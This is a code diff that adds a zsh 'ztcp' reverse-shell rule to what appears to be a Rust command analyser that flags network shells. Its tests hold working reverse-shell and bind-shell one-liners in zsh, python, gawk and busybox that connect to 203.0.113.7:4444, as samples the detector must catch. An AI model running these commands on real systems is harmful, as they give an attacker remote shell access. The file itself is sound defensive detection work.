@@ -23,6 +23,7 @@ pub(super) fn check(analysis: &Analysis, c: &Command, hits: &mut Hits) {
         || shell_feeding_network(analysis, c)
         || inline_socket_shell(c)
         || program_socket_shell(c)
+        || ztcp_shell(analysis, c)
     {
         hits.add(&NETWORK_SHELL, c);
     }
@@ -139,6 +140,25 @@ fn socket_redirect(c: &Command) -> bool {
         })
 }
 
+/// `ztcp HOST PORT && zsh >&$REPLY 2>&$REPLY 0>&$REPLY`: zsh's `zsh/net/tcp`
+/// module leaves the connection's descriptor in `$REPLY` (or a variable
+/// it is copied to), and a shell whose streams are duplicated from a
+/// descriptor held in a variable is wired to it.
+fn ztcp_shell(analysis: &Analysis, c: &Command) -> bool {
+    let is_shell = SHELLS.contains(&c.name.as_str()) || c.name == "exec";
+    is_shell
+        && c.redirects.iter().any(|r| {
+            // `>&$REPLY` reads as `&>` to a file named by the variable.
+            matches!(
+                r.kind,
+                RedirectKind::Duplicate | RedirectKind::ReadWrite | RedirectKind::OutputAndError
+            ) && r.target.text.starts_with('$')
+        })
+        && analysis.commands.iter().any(|o| {
+            o.name == "ztcp" && !o.has_short('c') && o.args.iter().any(|a| !a.text.is_empty())
+        })
+}
+
 /// `nc -e /bin/sh HOST PORT`, `ncat --exec`/`--sh-exec`/`--lua-exec`,
 /// traditional netcat's `-c`.
 fn exec_flag(c: &Command) -> bool {
@@ -198,6 +218,8 @@ mod tests {
             "python3 -c 'import socket,os,pty;s=socket.create_connection((\"h\",1));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")'",
             "gawk 'BEGIN{s=\"/inet/tcp/0/203.0.113.7/4444\"; s |& getline c}'",
             "busybox telnetd -l /bin/sh -p 2323",
+            "zsh -c 'zmodload zsh/net/tcp && ztcp 203.0.113.7 4444 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'",
+            "zmodload zsh/net/tcp; ztcp -l 4444; fd=$REPLY; ztcp -a $fd; exec zsh <&$REPLY >&$REPLY 2>&$REPLY",
         ] {
             assert!(fires(command), "{command}");
         }
@@ -214,6 +236,8 @@ mod tests {
             "awk -F, '{ print $2 }' data.csv",
             "curl -s localhost:8080/health | jq .",
             "bash scripts/build.sh | nc -q0 logs.internal 5000",
+            "zmodload zsh/net/tcp && ztcp localhost 6379 && print -u $REPLY PING && ztcp -c $REPLY",
+            "exec 3>&1; sh build.sh >&$LOG_FD",
         ] {
             assert!(!fires(command), "{command}");
         }
